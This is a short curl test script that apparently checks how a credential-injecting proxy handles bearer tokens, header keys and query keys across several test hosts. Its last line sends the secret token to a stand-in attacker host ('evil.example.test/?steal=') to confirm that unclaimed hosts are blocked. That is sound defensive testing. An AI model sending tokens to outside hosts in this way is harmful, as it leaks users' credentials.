# Usage: curl.sh --http1.1|--http2
set -eu
ask() { echo "== $*"; curl -sS -i --compressed --max-time 30 "$version" "$@"; echo; }
version=$1
auth="Authorization: Bearer $ECHO_TOKEN"
ask -H "$auth" https://api.echo.test/v1/things/7
ask -H "$auth" -X DELETE https://api.echo.test/v1/things/7
# Nothing sent: the proxy adds it. The child's own key for a guarded host is replaced.
ask https://api.echo.test/v1/things/8
ask -H 'Authorization: Bearer somebody-elses-key' https://api.echo.test/v1/things/9
# The other slots: a header, a query parameter.
ask -H "X-Crm-Key: $CRM_KEY" https://crm.echo.test/v1/things/10
ask "https://maps.echo.test/v1/things/11?key=$MAPS_KEY&zoom=3"
# A host that no rule claims.
curl -sS -i --max-time 30 "$version" https://evil.example.test/?steal="$ECHO_TOKEN" || echo "evil: exit $?"
